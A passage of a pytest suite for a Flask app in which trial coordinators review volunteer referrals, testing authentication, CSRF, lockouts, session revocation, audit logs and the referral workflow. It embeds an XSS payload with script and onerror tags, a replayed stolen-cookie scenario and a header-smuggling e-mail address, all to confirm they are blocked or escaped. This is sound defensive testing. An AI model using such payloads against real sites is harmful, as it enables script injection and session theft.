"""The coordinators' review app, route by route, over a real SQLite database (Flask's test client)."""
import csv
import datetime as dt
import html
import io
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sqlalchemy import select

from bot import referrals, store
from bot.review import add_user, create_app
from bot.screening import RecordedAnswer
from tests.test_outbox import referral_state

ROOT = Path(__file__).resolve().parents[1]
PASSWORD = "correct horse battery"
XSS = '<script>alert(1)</script> <img src=x onerror=alert(1)>'


@pytest.fixture
def app(database, tmp_path, monkeypatch):
    monkeypatch.setenv("BOT_VAR_DIR", str(tmp_path))
    add_user("maria", PASSWORD)  # a coordinator
    add_user("ada", PASSWORD, role="admin")
    application = create_app()
    application.config["TESTING"] = True  # CSRF stays on: TESTING does not disable Flask-WTF
    return application


@pytest.fixture
def referral(app, protocol):
    answers = {**referral_state().answers, "hiv": RecordedAnswer("no", f"no {XSS}")}
    state = referral_state(answers=answers, contact={**referral_state().contact, "contact_preferred_time": XSS})
    return referrals.create_referral("volunteer-xss", protocol, state)


def csrf(client, path="/login"):
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)


def logged_in(app, username="maria"):
    client = app.test_client()
    response = client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": csrf(client)})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    return client


def test_every_route_but_login_needs_a_login(app, referral):
    """Every rule of the app's URL map, every method, without a session: sent to the login page
    (or, for a form without its CSRF token, refused outright)."""
    swept = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static" or rule.rule in ("/login", "/favicon.ico"):  # public, and about no one
            continue
        path = re.sub(r"<[^>]+>", referral, rule.rule)
        for method in rule.methods - {"HEAD", "OPTIONS"}:
            response = app.test_client().open(path, method=method)
            refused = (response.status_code == 302 and response.headers["Location"].startswith("/login")
                       or (method == "POST" and response.status_code == 400))
            assert refused, (method, path, response.status_code)
            swept.append((method, path))
    assert ("GET", "/") in swept and ("GET", "/referrals.csv") in swept and len(swept) >= 6


def test_wrong_password_is_refused(app):
    client = app.test_client()
    response = client.post("/login", data={"username": "maria", "password": "wrong", "csrf_token": csrf(client)})
    assert response.status_code == 401 and "Wrong user name or password" in response.get_data(as_text=True)
    assert client.get("/").status_code == 302


def test_forms_without_csrf_token_are_refused(app, referral):
    client = app.test_client()
    assert client.post("/login", data={"username": "maria", "password": PASSWORD}).status_code == 400
    client = logged_in(app)
    response = client.post(f"/referrals/{referral}", data={"status": "contacted", "note": "called"})
    assert response.status_code == 400
    assert referrals.list_referrals()[0]["status"] == "new"


def test_session_cookie_is_httponly_and_samesite(app):
    client = app.test_client()
    response = client.post("/login", data={"username": "maria", "password": PASSWORD, "csrf_token": csrf(client)})
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_idle_session_expires(app):
    app.permanent_session_lifetime = dt.timedelta(seconds=1)
    client = logged_in(app)
    assert client.get("/").status_code == 200
    time.sleep(2.1)
    assert client.get("/").status_code == 302


def test_logout_ends_the_session(app):
    client = logged_in(app)
    client.post("/logout", data={"csrf_token": csrf(client, "/")})
    assert client.get("/").status_code == 302


def test_inbox_lists_referrals_with_counts_and_filters(app, referral):
    client = logged_in(app)
    page = client.get("/").get_data(as_text=True)
    assert referral in page and "New: <strong>1</strong>" in page and "Waiting to be sent" in page
    assert referral not in client.get("/?status=contacted").get_data(as_text=True)
    assert referral in client.get("/?verdict=needs_review&trial=NCT04143984").get_data(as_text=True)
    tomorrow = (dt.date.today() + dt.timedelta(days=2)).isoformat()
    assert referral not in client.get(f"/?since={tomorrow}").get_data(as_text=True)


def test_referral_page_shows_answers_as_text_and_records_a_status_change(app, referral, protocol):
    client = logged_in(app)
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert" not in page
    assert "<img src=x" not in page
    assert protocol.by_id["hiv"].text.replace("≥", "≥") in page and protocol.by_id["hiv"].question in page
    assert 'class="outcome-not-sure"' in page and protocol.by_id["blood_counts"].doctor_check in page
    assert "default-src 'none'" in client.get(f"/referrals/{referral}").headers["Content-Security-Policy"]

    token = csrf(client, f"/referrals/{referral}")
    client.post(f"/referrals/{referral}/attempts", data={"channel": "phone", "outcome": "reached", "csrf_token": token})
    client.post(f"/referrals/{referral}", data={"status": "screening_visit_booked", "note": "Visit on Monday",
                                                 "csrf_token": token})
    assert referrals.list_referrals()[0]["status"] == "screening_visit_booked"
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert re.search(r"\(Shanghai\)</time> · maria · New → Contacted: Attempt 1 reached them</li>", page)
    assert re.search(r"\(Shanghai\)</time> · maria · Contacted → Screening visit booked: Visit on Monday</li>", page)
    # a move the workflow does not allow is refused
    client.post(f"/referrals/{referral}", data={"status": "new", "csrf_token": token})
    assert referrals.list_referrals()[0]["status"] == "screening_visit_booked"


def test_screenings_page_has_no_contact_details_and_names_the_commonest_ender(app, protocol):
    from bot.conversation import State
    out = State(trial_id="NCT04143984", consent=True, answers={"age": RecordedAnswer(75, "75")},
                verdict="likely_ineligible")
    store.save_screening("s-1", protocol, out)
    store.save_screening("s-2", protocol, out)
    page = logged_in(app).get("/screenings").get_data(as_text=True)
    assert f"most often ends a screening: <strong>{protocol.by_id['age'].short}</strong> (2)" in page
    assert "Likely not eligible: <strong>2</strong>" in page


def test_the_sms_replies_page_shows_undelivered_replies_without_their_text_or_the_phone_number(app, referral):
    from sqlalchemy import update

    from bot import callbacks

    callbacks.enqueue("volunteer-xss", [{"recipient_id": "volunteer-xss", "text": "Your reference is RF-XXXX"}])
    callbacks.enqueue("+8613912345678", [{"recipient_id": "+8613912345678", "text": "Hello! I'm an automated"}])
    with store.unit_of_work() as db:  # the first given up on (its text dropped), the second still tried
        db.execute(update(store.CallbackReply).where(store.CallbackReply.id == 1).values(
            state="failed", body=None, attempts=9, last_error="could not connect", failed_at=store.now()))
        db.execute(update(store.CallbackReply).where(store.CallbackReply.id == 2).values(
            attempts=2, last_error="HTTP 503"))
    client = logged_in(app)
    page = client.get("/replies").get_data(as_text=True)
    assert "waiting: <strong>1</strong>" in page and "failed: <strong>1</strong>" in page
    assert f'<a href="/referrals/{referral}">{referral}</a>' in page and "not consented" in page
    assert "could not connect" in page and "HTTP 503" in page
    assert "13912345678" not in page and "automated" not in page and "RF-XXXX" not in page
    assert ("maria", "view_replies", "") in audit_rows()


def test_the_sms_replies_page_marks_cancelled_replies_and_counts_the_numbers_that_opted_out(app):
    from bot import callbacks

    callbacks.enqueue("sms-opted", [{"recipient_id": "+8613912345678", "text": "Question 3 of 25"}])
    callbacks.opt_out("sms-opted", "STOP", {"recipient_id": "+8613912345678", "text": "You have opted out"})
    page = logged_in(app).get("/replies").get_data(as_text=True)
    assert "cancelled (opted out): <strong>1</strong>" in page and "numbers opted out: <strong>1</strong>" in page
    assert "cancelled: opted out" in page and "waiting (answer to a keyword)" in page
    assert "13912345678" not in page and "Question 3" not in page


def test_audit_log_records_who_opened_and_changed_what(app, referral):
    client = logged_in(app)
    client.get(f"/referrals/{referral}")
    client.get("/referrals.csv")
    page = logged_in(app, "ada").get("/audit").get_data(as_text=True)  # an admin reads it
    for action in ("login", "view_referral", "export_csv"):
        assert f"<td>maria</td><td>{action}</td>" in page
    assert f"referral {referral}" in page and "alert" not in page  # no health data or volunteer text


def test_users_add_command_stores_an_argon2_hash(database, tmp_path):
    env = {**os.environ, "BOT_DATABASE_URL": database}
    done = subprocess.run([sys.executable, "-m", "bot", "users", "add", "li", "--password-stdin"], cwd=ROOT,
                          env=env, input="a long enough password\n", capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    with store.unit_of_work() as session:
        user = session.query(store.StaffUser).filter_by(username="li").one()
        assert user.password_hash.startswith("$argon2id$")
    short = subprocess.run([sys.executable, "-m", "bot", "users", "add", "x", "--password-stdin"], cwd=ROOT, env=env,
                           input="short\n", capture_output=True, text=True, timeout=60)
    assert short.returncode == 2 and "12 characters" in short.stderr


def test_a_chinese_referral_shows_its_language_and_the_volunteers_words_beside_the_english(app, protocol):
    from dataclasses import replace as with_
    state = with_(referral_state(answers={**referral_state().answers, "hiv": RecordedAnswer("no", "没有")}),
                  language="zh")
    reference = referrals.create_referral("volunteer-zh", protocol, state)
    client = logged_in(app)
    page = client.get(f"/referrals/{reference}").get_data(as_text=True)
    assert 'screened in <strong lang="zh-Hans">中文</strong>' in page
    assert protocol.by_id["hiv"].text.replace("≥", "≥") in page  # the registry's English criterion
    assert protocol.in_language("zh").by_id["hiv"].question in page and ">没有</td>" in page
    assert ">中文</td>" in client.get("/").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(client.get("/referrals.csv").get_data().decode("utf-8-sig"))))
    assert rows[0][3] == "Language" and rows[1][3] == "中文"


def test_the_translations_page_lists_what_awaits_approval(app, protocol):
    page = logged_in(app).get("/translations").get_data(as_text=True)
    from bot import i18n
    waiting = len(i18n.unapproved("zh"))
    assert re.search(rf"\d{{3}} trial texts, {waiting} messages", page) and waiting > 150
    assert protocol.in_language("zh").by_id["hiv"].question in page
    assert "Not sure" in page and "不确定" in page  # a message, beside its translation
    assert protocol.headline in page and protocol.in_language("zh").headline in page  # the page's heading


# Issue items 11 (login throttling) and 12 (sessions revocable on the server).

def login_post(client, username="maria", password=PASSWORD):
    return client.post("/login", data={"username": username, "password": password, "csrf_token": csrf(client)})


def audit_rows():
    with store.unit_of_work() as session:
        return [(e.username, e.action, e.record) for e in
                session.query(store.AuditEntry).order_by(store.AuditEntry.id).all()]


def users_command(*args, password=None):
    """`python -m bot users …` in this process (bot.__main__.main), the password as if piped in."""
    from bot.__main__ import main
    if password is not None:
        stdin = sys.stdin
        sys.stdin = io.StringIO(password + "\n")
        try:
            return main(["users", *args, "--password-stdin"])
        finally:
            sys.stdin = stdin
    return main(["users", *args])


def test_repeated_wrong_passwords_lock_the_user_name_and_are_audited(app):
    client = app.test_client()
    for attempt in range(4):
        assert login_post(client, password=f"wrong guess {attempt}").status_code == 401
    response = login_post(client, password="wrong guess 4")  # the fifth in a row locks the name, and says so
    assert response.status_code == 403 and "locked until" in response.get_data(as_text=True)
    response = login_post(client)  # the right password, now refused
    page = response.get_data(as_text=True)
    assert response.status_code == 403 and "Too many failed logins for this user name" in page
    assert client.get("/").status_code == 302
    # kept in the database: a restarted app (a new one on the same database) refuses it too
    assert login_post(create_app().test_client()).status_code == 403

    rows = audit_rows()
    actions = [action for who, action, _ in rows if who == "maria"]
    assert actions.count("login_failed") == 5 and actions.count("login_locked") == 1
    assert actions.count("login_refused") == 2 and "login" not in actions
    assert ("maria", "login_failed", "wrong password, 5 in a row, from 127.0.0.1") in rows
    assert not any("wrong guess" in field or PASSWORD in field for row in rows for field in row)

    assert users_command("enable", "maria") == 0  # an administrator lifts the lockout
    assert login_post(client).status_code == 302


def test_an_unknown_user_name_costs_the_same_argon2_verification(app, monkeypatch):
    """No timing measured: the hasher's verify must run for a name that does not exist, on a hash made with the
    same settings as the real ones, so a failed login takes argon2's time either way."""
    import bot.review
    from argon2 import PasswordHasher

    verified = []

    class CountingHasher(PasswordHasher):
        def verify(self, hash, password):
            verified.append(hash)
            return super().verify(hash, password)

    monkeypatch.setattr(bot.review, "hasher", CountingHasher())
    client = app.test_client()
    assert login_post(client, "nobody-by-this-name", "some password").status_code == 401
    assert login_post(client, "maria", "some password").status_code == 401
    assert len(verified) == 2
    with store.unit_of_work() as session:
        real = session.query(store.StaffUser).filter_by(username="maria").one().password_hash
    assert verified[1] == real and verified[0] != real
    assert verified[0].rsplit("$", 2)[0] == real.rsplit("$", 2)[0]  # $argon2id$v=19$m=…,t=…,p=…: the same work
    assert ("nobody-by-this-name", "login_failed", "no such user, 1 in a row, from 127.0.0.1") in audit_rows()


def test_login_attempts_from_one_address_are_rate_limited(app):
    client = app.test_client()
    for n in range(10):  # ten names, so no lockout: the default limit is 10 a minute per address
        assert login_post(client, f"guess-{n}", "wrong password").status_code == 401
    response = login_post(client)
    assert response.status_code == 429 and "Too many login attempts from this address" in response.get_data(as_text=True)
    assert client.get("/login").status_code == 200  # the page itself is not limited
    assert login_post(app.test_client()).status_code == 429  # another session from the same address too


def test_disabling_a_user_refuses_their_logins_and_ends_their_open_sessions(app):
    open_session = logged_in(app)
    assert open_session.get("/").status_code == 200
    assert users_command("disable", "maria") == 0
    assert open_session.get("/").status_code == 302
    refused = login_post(app.test_client())
    assert refused.status_code == 403 and "This login has been disabled" in refused.get_data(as_text=True)
    assert ("maria", "login_refused", "user disabled, from 127.0.0.1") in audit_rows()
    assert users_command("enable", "maria") == 0
    assert logged_in(app).get("/").status_code == 200
    by_command = [(action, record) for who, action, record in audit_rows() if who == "command line"]
    assert by_command[-2:] == [("user_disabled", "user maria"), ("user_enabled", "user maria")]


def test_users_disable_and_enable_commands(database, capsys):
    add_user("li", "a long enough password")
    done = subprocess.run([sys.executable, "-m", "bot", "users", "disable", "li"], cwd=ROOT, capture_output=True,
                          env={**os.environ, "BOT_DATABASE_URL": database}, text=True, timeout=60)
    assert done.returncode == 0 and "disabled li" in done.stdout, done.stderr
    with store.unit_of_work() as session:
        assert session.query(store.StaffUser).filter_by(username="li").one().disabled
    assert users_command("enable", "li") == 0  # in this process, which is quicker
    with store.unit_of_work() as session:
        assert not session.query(store.StaffUser).filter_by(username="li").one().disabled
    assert users_command("enable", "nobody") == 2
    assert "error: there is no user 'nobody'" in capsys.readouterr().err


def test_a_session_cookie_copied_before_logout_no_longer_works_after_it(app):
    client = logged_in(app)
    copied = client.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/").status_code == 200  # the copy works while the session is open ...
    client.post("/logout", data={"csrf_token": csrf(client, "/")})
    assert client.get("/").status_code == 302
    response = thief.get("/")  # ... and not after the log-out
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    assert logged_in(app).get("/").status_code == 200  # logging in again works


def test_a_new_password_ends_open_sessions(app):
    old = logged_in(app)
    assert old.get("/").status_code == 200
    assert users_command("passwd", "maria", password="a brand new password") == 0
    assert old.get("/").status_code == 302
    assert login_post(app.test_client()).status_code == 401  # the old password no longer works
    fresh = app.test_client()
    assert login_post(fresh, password="a brand new password").status_code == 302
    assert fresh.get("/").status_code == 200
    assert [(action, record) for who, action, record in audit_rows()
            if who == "command line"][-1] == ("password_changed", "user maria")


def test_users_passwd_command(database, capsys):
    add_user("li", "a long enough password")
    done = subprocess.run([sys.executable, "-m", "bot", "users", "passwd", "li", "--password-stdin"], cwd=ROOT,
                          env={**os.environ, "BOT_DATABASE_URL": database}, input="another long password\n",
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "sessions have ended" in done.stdout, done.stderr
    from bot.review import attempt_login
    assert attempt_login("li", "another long password").result == "ok"
    assert users_command("passwd", "li", password="short") == 2  # in this process, which is quicker
    assert "12 characters" in capsys.readouterr().err
    assert users_command("passwd", "nobody", password="a long enough password") == 2


# Issue 17 items 2 and 3: contact attempts, statuses with coded reasons, the referral page's order and wording.

def post_attempt(client, reference, **fields):
    data = {"channel": "phone", "outcome": "no_answer", "csrf_token": csrf(client, "/"), **fields}
    return client.post(f"/referrals/{reference}/attempts", data=data)


def post_status(client, reference, **fields):
    return client.post(f"/referrals/{reference}",
                       data={"csrf_token": csrf(client, f"/referrals/{reference}"), **fields})


def status_of(reference):
    with store.unit_of_work() as db:
        row = db.query(store.Referral).filter_by(reference=reference).one()
        return row.status, row.status_reason


def attempts_of(reference):
    with store.unit_of_work() as db:
        referral_id = db.query(store.Referral.id).filter_by(reference=reference).scalar()
        return [(a.number, a.channel, a.outcome, a.by, a.note, a.at) for a in
                db.query(store.ContactAttempt).filter_by(referral_id=referral_id).order_by(store.ContactAttempt.id)]


def flashes(response):
    return [html.unescape(said) for said in
            re.findall(r'<p class="flash" role="status">([^<]*)</p>', response.get_data(as_text=True))]


def test_contact_attempts_are_numbered_and_the_first_that_reaches_the_volunteer_marks_it_contacted(app, referral):
    from bot.review import attempts
    client = logged_in(app)
    first = post_attempt(client, referral, channel="phone", outcome="no_answer", note="rang twice")
    assert first.status_code == 302 and status_of(referral) == ("new", None)  # a failed attempt keeps the status
    assert flashes(client.get(f"/referrals/{referral}")) == ["Attempt 1 logged: No answer."]
    post_attempt(client, referral, channel="sms", outcome="left_message")
    assert status_of(referral) == ("new", None)
    post_attempt(client, referral, channel="wechat", outcome="reached", note="will think about it")
    assert status_of(referral) == ("contacted", None)
    page = client.get(f"/referrals/{referral}")
    assert flashes(page) == ["Attempt 3 logged: Reached. It reached the volunteer, so the referral moved from New "
                             "to Contacted."]
    post_attempt(client, referral, channel="email", outcome="reached")  # reached again: stays Contacted
    assert status_of(referral) == ("contacted", None)
    logged = attempts_of(referral)
    assert [row[:5] for row in logged] == [(1, "phone", "no_answer", "maria", "rang twice"),
                                           (2, "sms", "left_message", "maria", ""),
                                           (3, "wechat", "reached", "maria", "will think about it"),
                                           (4, "email", "reached", "maria", "")]
    assert all(abs((at - store.now()).total_seconds()) < 60 for *_, at in logged)  # no time given: now
    text = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert re.search(r"Attempt 1 · <time[^>]*>[^<]*\(Shanghai\)</time> · Phone · <strong>No answer</strong> · maria: "
                     r"rang twice</li>", text)
    assert "Attempt 2 · " in text and " · SMS · <strong>Left a message</strong>" in text
    assert " · WeChat · <strong>Reached</strong>" in text and "This is attempt 5." in text

    with store.unit_of_work() as db:
        referral_id = db.query(store.Referral.id).filter_by(reference=referral).scalar()
        changes = db.query(store.ReferralChange).filter_by(referral_id=referral_id).all()
        assert [(c.by, c.from_status, c.to_status) for c in changes] == [("maria", "new", "contacted")]
        # what the inbox uses for "a contact attempt has been made" and for the time of the first
        listed = db.execute(select(store.Referral.reference, attempts.attempted(),
                                   attempts.first_attempt_at_column())).all()
    assert listed == [(referral, True, logged[0][5])]
    assert attempts.first_attempt_at(referral_id) == logged[0][5]
    who = [(u, a, r) for u, a, r in audit_rows() if a in ("log_contact_attempt", "change_status")]
    assert who[:4] == [("maria", "log_contact_attempt", f"referral {referral}: attempt {n}") for n in (1, 2, 3)] + [
        ("maria", "change_status", f"referral {referral}: New → Contacted")]


def test_an_attempt_takes_the_time_it_happened_in_the_sites_time_zone(app, referral):
    from bot.review import attempts
    client = logged_in(app)
    with store.unit_of_work() as db:
        db.query(store.Referral).filter_by(reference=referral).update(
            {"created_at": dt.datetime(2026, 11, 27, 23, 0)})  # 28 Nov, 07:00 in Shanghai
    post_attempt(client, referral, at="2026-11-28T09:30")
    assert attempts_of(referral)[0][5] == dt.datetime(2026, 11, 28, 1, 30)  # 09:30 in Shanghai is 01:30 UTC
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert ('Attempt 1 · <time datetime="2026-11-28T01:30:00Z" title="28 Nov 2026, 01:30 UTC">28 Nov 2026, 09:30 '
            '(Shanghai)</time>') in page
    assert 'When (Shanghai time; leave empty for now)' in page

    for at, said in [("2026-11-28T06:00", "That time is before the referral arrived."),
                     ((dt.datetime.now() + dt.timedelta(days=2)).strftime("%Y-%m-%dT%H:%M"),
                      "That time is in the future: give the time the attempt was made."),
                     ("tomorrow morning", "The time must look like 2026-11-28 09:30 (Shanghai time).")]:
        assert flashes(client.get(post_attempt(client, referral, at=at).headers["Location"])) == [said]
    for fields, said in [({"channel": "pigeon"}, "Choose the channel of the attempt."),
                         ({"outcome": ""}, "Choose the outcome of the attempt.")]:
        assert flashes(client.get(post_attempt(client, referral, **fields).headers["Location"])) == [said]
    assert len(attempts_of(referral)) == 1
    with store.unit_of_work() as db:
        assert db.query(store.ContactAttempt).count() == 1
    assert attempts.first_attempt_at(10_000) is None


def test_the_workflow_refuses_moves_it_does_not_allow_and_asks_for_reasons(app, referral):
    client = logged_in(app)

    def refused(said, **fields):
        before = status_of(referral)
        response = post_status(client, referral, **fields)
        assert flashes(client.get(response.headers["Location"])) == [said]
        assert status_of(referral) == before

    refused("A referral that is New can't move to Enrolled.", status="enrolled")
    refused("A referral that is New can't move to Screening visit booked.", status="screening_visit_booked")
    refused("Log the contact attempt that reached the volunteer (outcome: Reached): that marks the referral "
            "Contacted.", status="contacted")
    refused("Not reachable needs contact attempts first: log each attempt, then mark it.", status="could_not_reach")
    refused("That is not a status.", status="lost")
    refused("Nothing to save: choose a new status or write a note.", status="new")
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert ('<option value="could_not_reach" disabled>Not reachable (after 3 attempts that did not reach them)'
            '</option>') in page and 'class="suggest"' not in page

    for n in range(2):
        post_attempt(client, referral, outcome="no_answer")
        refused(f"Not reachable is for 3 attempts in a row that did not reach the volunteer; {n + 1} so far.",
                status="could_not_reach")
    post_attempt(client, referral, outcome="wrong_number")
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert ("3 attempts in a row did not reach the volunteer: you can mark the referral <strong>Not reachable"
            "</strong>") in page
    assert '<option value="could_not_reach">Not reachable</option>' in page
    post_status(client, referral, status="could_not_reach", note="three calls, then a wrong number")
    assert status_of(referral) == ("could_not_reach", None)

    post_attempt(client, referral, channel="email", outcome="reached")  # an e-mail answered after all
    assert status_of(referral) == ("contacted", None)
    refused("Not eligible needs which criterion: choose one.", status="not_eligible")
    refused("That reason is not on the list.", status="not_eligible", criterion="favourite_colour")
    refused("Other: write the reason in the note.", status="not_eligible", criterion="other")
    refused("Declined needs the reason: choose one.", status="declined")
    refused("That reason is not on the list.", status="declined", reason="bored")
    post_status(client, referral, status="not_eligible", criterion="hiv", note="told us on the phone")
    assert status_of(referral) == ("not_eligible", "hiv")
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert "Status <strong>Not eligible</strong> (HIV or AIDS)" in page
    assert "· maria · Contacted → Not eligible (HIV or AIDS): told us on the phone</li>" in page
    refused("A referral that is Not eligible can't move to Contacted.", status="contacted")
    assert '<option value="not_eligible" selected>Not eligible (keep)</option>' in page
    assert 'name="criterion"' not in page  # an ended referral offers no move, so no reasons


def test_declined_and_withdrew_take_a_coded_reason_in_plain_words(app, protocol):
    client = logged_in(app)
    declined = referrals.create_referral("decliner", protocol, referral_state())
    post_attempt(client, declined, outcome="reached")
    post_status(client, declined, status="declined", reason="too_far", criterion="age", note="lives in Harbin")
    assert status_of(declined) == ("declined", "too_far")  # the criterion menu counts only for Not eligible
    page = client.get(f"/referrals/{declined}").get_data(as_text=True)
    assert "Status <strong>Declined</strong> (Too far to travel)" in page
    assert "Contacted → Declined (Too far to travel): lives in Harbin" in page

    enrolled = referrals.create_referral("enrollee", protocol, referral_state())
    post_attempt(client, enrolled, outcome="reached")
    post_status(client, enrolled, status="screening_visit_booked")
    post_status(client, enrolled, status="enrolled")
    post_status(client, enrolled, status="withdrew", reason="other")
    assert status_of(enrolled) == ("enrolled", None)
    post_status(client, enrolled, status="withdrew", reason="other", note="moved abroad")
    assert status_of(enrolled) == ("withdrew", "other")
    page = client.get(f"/referrals/{enrolled}").get_data(as_text=True)
    assert "Enrolled → Withdrew (Other (see note)): moved abroad" in page
    # every move: who, when, from, to, reason, note in referral_changes; who, when, from, to in the audit log
    with store.unit_of_work() as db:
        changes = [(c.by, c.from_status, c.to_status, c.reason, c.note, c.at) for c in
                   db.query(store.ReferralChange).join(store.Referral).filter(store.Referral.reference == enrolled)
                   .order_by(store.ReferralChange.id)]
        audited = [(e.username, e.action, e.record, e.at) for e in db.query(store.AuditEntry)
                   .filter(store.AuditEntry.record.like(f"referral {enrolled}:%"))
                   .order_by(store.AuditEntry.id)]
    assert [c[:5] for c in changes] == [
        ("maria", "new", "contacted", None, "Attempt 1 reached them"),
        ("maria", "contacted", "screening_visit_booked", None, ""),
        ("maria", "screening_visit_booked", "enrolled", None, ""),
        ("maria", "enrolled", "withdrew", "other", "moved abroad")]
    assert all(abs((c[5] - store.now()).total_seconds()) < 60 for c in changes)
    assert [a[:3] for a in audited] == [
        ("maria", "log_contact_attempt", f"referral {enrolled}: attempt 1"),
        ("maria", "change_status", f"referral {enrolled}: New → Contacted"),
        ("maria", "change_status", f"referral {enrolled}: Contacted → Screening visit booked"),
        ("maria", "change_status", f"referral {enrolled}: Screening visit booked → Enrolled"),
        ("maria", "change_status", f"referral {enrolled}: Enrolled → Withdrew")]
    assert all(abs((a[3] - store.now()).total_seconds()) < 60 for a in audited)


def test_not_reachable_waits_for_the_configured_number_of_attempts(database, tmp_path, monkeypatch, protocol):
    monkeypatch.setenv("BOT_VAR_DIR", str(tmp_path))
    monkeypatch.setenv("REVIEW_NOT_REACHABLE_AFTER", "1")
    add_user("maria", PASSWORD)
    app = create_app()
    reference = referrals.create_referral("volunteer-1", protocol, referral_state())
    client = logged_in(app)
    post_attempt(client, reference, outcome="wrong_number")
    assert "1 attempts in a row did not reach" in client.get(f"/referrals/{reference}").get_data(as_text=True)
    post_status(client, reference, status="could_not_reach")
    assert status_of(reference) == ("could_not_reach", None)


def test_the_referral_page_puts_the_actions_first_and_links_phone_and_e_mail(app, referral):
    client = logged_in(app)
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    order = [page.index(heading) for heading in (
        ">What to do next</h2>", ">Change the status</h3>", ">Log a contact attempt</h3>", ">Contact details</h2>",
        ">Open questions (answered Not sure)</h2>", ">Answers, criterion by criterion</h2>", ">Transcript</h2>")]
    assert order == sorted(order)
    assert '<a href="tel:+8613800138000">+8613800138000</a>' in page
    assert '<a href="mailto:ana@example.com">ana@example.com</a>' in page
    assert "<dt>Prefers</dt><dd>E-mail or phone, &lt;script&gt;" in page  # the typed time, as text
    assert "<dt>Channel</dt><dd>other (REST)</dd>" in page and '<dd lang="en">English</dd>' in page
    assert re.search(r'arrived <time datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ" title="\d+ \w{3} \d{4}, \d\d:\d\d UTC">'
                     r'\d+ \w{3} \d{4}, \d\d:\d\d \(Shanghai\)</time> by other \(REST\)', page)
    with store.unit_of_work() as db:  # an address may hold ? and =: they must not add a header to the e-mail
        db.query(store.Referral).filter_by(reference=referral).update({"contact_email": "a?cc=x@example.com"})
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert '<a href="mailto:a%3Fcc%3Dx@example.com">a?cc=x@example.com</a>' in page


def test_notes_and_attempt_notes_with_markup_are_shown_as_text(app, referral):
    client = logged_in(app)
    post_attempt(client, referral, note=XSS)
    post_status(client, referral, note=XSS)
    page = client.get(f"/referrals/{referral}").get_data(as_text=True)
    assert "<script>alert" not in page and "<img src=x" not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;") == 4  # also time
    assert not any("alert" in record for _, _, record in audit_rows())


def test_the_new_forms_refuse_without_a_login_or_a_csrf_token(app, referral):
    anonymous = app.test_client()
    for path in (f"/referrals/{referral}/attempts", f"/referrals/{referral}"):
        response = anonymous.post(path, data={"channel": "phone", "outcome": "reached", "status": "contacted",
                                              "csrf_token": csrf(anonymous)})
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    client = logged_in(app)
    assert client.post(f"/referrals/{referral}/attempts", data={"channel": "phone", "outcome": "reached"}
                       ).status_code == 400
    assert client.post(f"/referrals/{referral}", data={"status": "declined", "reason": "too_far"}).status_code == 400
    assert attempts_of(referral) == [] and status_of(referral) == ("new", None)
    assert post_attempt(client, "RF-NONE-NONE").status_code == 404


def test_delivery_is_named_the_same_way_on_the_inbox_and_the_referral_page(app, referral):
    client = logged_in(app)
    states = [({"attempts": 0}, "Waiting to be sent", "as soon as the relay sends it"),
              ({"attempts": 2, "last_error": "could not connect"}, "Not sent: retrying",
               "Tried 2 times (could not connect); next try <time"),
              ({"state": "failed", "attempts": 1, "last_error": "HTTP 400: bad"}, "Not sent: failed",
               "The answer: HTTP 400: bad."),
              ({"state": "delivered", "delivered_at": dt.datetime(2026, 11, 28, 1, 30), "last_error": None},
               "Sent to the study team", 'Received <time datetime="2026-11-28T01:30:00Z"')]
    for values, label, explained in states:
        with store.unit_of_work() as db:
            db.query(store.OutboxMessage).update(values)
        page = client.get(f"/referrals/{referral}").get_data(as_text=True)
        assert f"<strong>{label}</strong>:" in page and explained in page
        assert f">{label}" in client.get("/").get_data(as_text=True)
    assert "pending" not in page and "waiting<" not in client.get("/").get_data(as_text=True)


def test_the_transcript_names_channels_in_plain_words_and_shows_the_sites_time(app, referral):
    import json
    from sqlalchemy import text
    with store.engine().begin() as connection:  # Rasa's tracker table, as its SQL tracker store writes it
        connection.execute(text("CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
                                "timestamp REAL, intent_name TEXT, action_name TEXT, data TEXT)"))
        stamp = dt.datetime(2026, 11, 28, 1, 30, 5, tzinfo=dt.timezone.utc).timestamp()
        for n, (kind, channel) in enumerate([("user", "socketio"), ("bot", None), ("user", "callback"),
                                             ("user", "wechat")]):
            connection.execute(text("INSERT INTO events (sender_id, type_name, timestamp, data) VALUES "
                                    "('volunteer-xss', :kind, :at, :data)"),
                               {"kind": kind, "at": stamp + n, "data": json.dumps(
                                   {"text": f"line {n}", "input_channel": channel})})
    page = logged_in(app).get(f"/referrals/{referral}").get_data(as_text=True)
    assert ('<time datetime="2026-11-28T01:30:05Z" title="28 Nov 2026, 01:30:05 UTC">28 Nov 2026, 09:30:05 '
            '(Shanghai)</time> · volunteer · web chat</span>') in page
    assert "(Shanghai)</time> · bot</span>" in page
    assert "· volunteer · SMS</span>" in page and "· volunteer · WeChat</span>" in page
    assert "socketio" not in page and "callback" not in page and "via " not in page


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_attempts_logged_at_the_same_moment_get_consecutive_numbers(backend, database, monkeypatch, protocol,
